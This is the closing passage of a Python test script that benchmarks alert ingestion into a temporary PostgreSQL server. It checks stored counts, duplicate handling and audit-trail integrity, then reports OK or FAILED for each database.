                postmaster = int((server.data / "postmaster.pid").read_text().split()[0])
                database = Database("postgresql", server.database(), postmaster)
                print(f"postgresql: {Path(found[-1]).parts[-3]} on port {server.port}, fsync on")
                outcomes.append(run(database, payload, args.clients, workdir))
            finally:
                server.stop()
                shutil.rmtree(workdir, ignore_errors=True)

    print()
    print(
        f"{args.alerts:,} alerts, batches of {args.batch:,}, {args.clients} client threads "
        f"(latency: one request, sent to answered)"
    )
    print(table(outcomes))
    failed = False
    for outcome in outcomes:
        first = outcome.passes[0]
        repeat = outcome.passes[-1] if len(outcome.passes) > 1 else None
        fine = (
            outcome.stored == args.alerts
            and first.created == args.alerts
            and repeat is not None
            and repeat.created == 0
            and repeat.duplicates == args.alerts
            and not outcome.problems
            and not any(p.errors for p in outcome.passes)
        )
        failed |= not fine
        audit_state = "intact" if not outcome.problems else f"BROKEN: {outcome.problems[:3]}"
        print(
            f"{outcome.database}: {outcome.stored:,} alerts stored (expected {args.alerts:,}); "
            f"audit trail of {outcome.audit_entries:,} entries {audit_state}; "
            f"{'OK' if fine else 'FAILED'}"
        )
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
